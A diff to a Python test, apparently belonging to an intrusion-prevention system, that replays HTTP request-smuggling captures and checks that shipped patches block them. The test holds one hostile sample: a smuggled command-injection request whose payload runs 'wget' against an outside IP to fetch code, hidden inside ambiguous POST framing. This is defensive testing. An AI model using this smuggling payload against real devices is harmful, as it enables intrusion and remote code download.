@@ -240,9 +240,10 @@ def test_an_alert_that_only_notices_a_request_does_not_log_its_body(tmp_path):
 def test_shipped_patch_drops_request_smuggling_toward_a_device(tmp_path):
     # A POST whose body, for a server that takes the last Content-Length or
     # ignores chunked, is the command injection itself: no http.uri patch
-    # sees that request, so the ambiguous framing is what is dropped. The
-    # same POST framed plainly (one length, or chunked alone) passes.
-    from tests.evasion.make_cases import SMUGGLING
+    # sees that request, so the ambiguous framing (or the switch to HTTP/2)
+    # is what is dropped. The same POST framed plainly passes, and so do the
+    # framings servers agree on.
+    from tests.evasion.make_cases import HTTP_FRAMING
     hidden = b"GET /cgi-bin/;wget%20http://198.51.100.9/x HTTP/1.1\r\nHost: device\r\n\r\n"
     head = b"POST /index.html HTTP/1.1\r\nHost: device\r\n"
     plain = {
@@ -250,10 +251,10 @@ def test_shipped_patch_drops_request_smuggling_toward_a_device(tmp_path):
         "chunked": head + b"Transfer-Encoding: chunked\r\n\r\n%x\r\n" % len(hidden) + hidden
         + b"\r\n0\r\n\r\n",
     }
-    requests = [(name, request, True) for name, (request, _, _) in SMUGGLING.items()]
-    requests += [(name, request, False) for name, request in plain.items()]
+    requests = [(name, request, patch) for name, (request, _, _, patch) in HTTP_FRAMING.items()]
+    requests += [(name, request, None) for name, request in plain.items()]
     frames = []
-    for index, (_name, request, _drop) in enumerate(requests):
+    for index, (_name, request, _patch) in enumerate(requests):
         frames += _tcp_session([(True, request), (False, OK_RESPONSE)], sport=21000 + index,
                                start=index * 2.0, client="203.0.113.50", server="192.0.2.80")
     wrpcap(str(tmp_path / "smuggling.pcap"), frames)
@@ -262,6 +263,7 @@ def test_shipped_patch_drops_request_smuggling_toward_a_device(tmp_path):
     alerts = _Alerts()
     replay([str(tmp_path / "smuggling.pcap")], engine, tmp_path / "out", config,
            consumers=[alerts], progress=False)
-    for index, (name, _request, drop) in enumerate(requests):
+    assert sum(1 for _n, _r, patch in requests if patch) >= 8
+    for index, (name, _request, patch) in enumerate(requests):
         fired = [(a.signature_id, a.action) for a in alerts.by_port.get(21000 + index, [])]
-        assert fired == ([(9100118, "blocked")] if drop else []), name
+        assert fired == ([(patch, "blocked")] if patch else []), name
